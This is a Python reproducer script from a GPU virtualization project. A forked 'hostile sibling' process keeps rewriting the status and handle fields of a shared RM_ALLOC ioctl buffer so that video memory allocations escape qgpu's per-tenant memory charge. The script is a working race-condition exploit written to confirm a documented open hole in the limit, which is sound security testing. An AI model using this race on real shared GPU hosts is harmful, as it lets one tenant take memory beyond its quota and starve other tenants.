"""Reproducer of an open hole in the memory limit (docs/design/memory-limits.md, "Open: the new
handle and the status both rewritten"); not a test, so pytest does not collect it.

A sibling process keeps writing hObjectNew = 0 and an error status into an RM_ALLOC request
while the tenant allocates video memory through an instance of 8 MiB. RM generates handles qgpu
never sees and qgpu reads a failure, so nothing is charged while RM holds the memory.

    scripts/vm.sh -- .venv/bin/python tests/guest/probe_handle_status_race.py

Prints what qgpu charged and what RM holds, for the status rewritten alone and together with the
handle. Exit 0 when the charge equals what RM holds in both, 1 when the limit was bypassed.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import signal
import struct
import sys

import rm
from qgpu_sysfs import instance
from qgpu_sysfs import mem_current as current
from rm import Rm

MIB = 1 << 20
LIMIT, ROUNDS = 8 * MIB, 64
STATUS_OFF, HNEW_OFF = 40, 8  # NVOS64 (nvidia-rm-abi.md)


def raw_ioctl(fd: int, nr: int, req: ctypes.Array[ctypes.c_char]) -> None:
    """By address, so the driver reads the very buffer the sibling writes."""
    libc = ctypes.CDLL(None, use_errno=True)
    cmd = ctypes.c_ulong(rm.iowr(nr, len(req)))
    assert libc.ioctl(fd, cmd, ctypes.c_void_p(ctypes.addressof(req))) == 0


def has(r: Rm, handle: int) -> bool:
    """Does RM still have this handle of the client (NV0000 CLIENT_GET_HANDLE_INFO)?"""
    info = bytearray(struct.pack("<IIQ", handle, 1, 0))
    return r.control(r.client, rm.GET_HANDLE_INFO, info) == rm.OK


def race(rewrite_handle: bool) -> tuple[int, int]:
    """(bytes qgpu charged, bytes RM holds) after ROUNDS allocations of 1 MiB."""
    real = Rm()
    _, rsub = real.device()
    before = real.fb_free_bytes(rsub)
    try:
        with instance("probe", opts=f"mem={LIMIT >> 20}M") as d:
            shared = mmap.mmap(-1, mmap.PAGESIZE)
            req = (ctypes.c_char * rm.NVOS64.size).from_buffer(shared)
            pid = os.fork()
            if pid == 0:  # the hostile sibling
                status = ctypes.c_uint32.from_buffer(shared, STATUS_OFF)
                hnew = ctypes.c_uint32.from_buffer(shared, HNEW_OFF)
                while True:
                    status.value = 0x1F
                    if rewrite_handle:
                        hnew.value = 0
            clients: list[Rm] = []
            try:
                for i in range(ROUNDS):
                    if not clients or not has(clients[-1], clients[-1].client):
                        # qgpu saw the race this time and freed the client, with its memory
                        clients.append(Rm(dev=d))
                        dev, _ = clients[-1].device()
                        ptr = clients[-1].buffer(struct.pack("<I60xQ56x", clients[-1].client, MIB))
                    fields = (clients[-1].client, dev, 0xB0000000 + i, rm.VIDMEM, ptr, 0, 0, 0)
                    rm.NVOS64.pack_into(req, 0, *fields, 0xFFFFFFFF)
                    raw_ioctl(clients[-1].ctl, rm.RM_ALLOC, req)
                return current("probe"), before - real.fb_free_bytes(rsub)
            finally:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
                for r in clients:
                    r.close()
    finally:
        real.close()


def main() -> int:
    bypassed = False
    for rewrite_handle in (False, True):
        charged, held = race(rewrite_handle)
        what = "status and handle" if rewrite_handle else "status alone"
        print(f"{what} rewritten: qgpu charged {charged >> 20} MiB, RM holds {held >> 20} MiB")
        bypassed |= held != charged
    return 1 if bypassed else 0


if __name__ == "__main__":
    sys.exit(main())
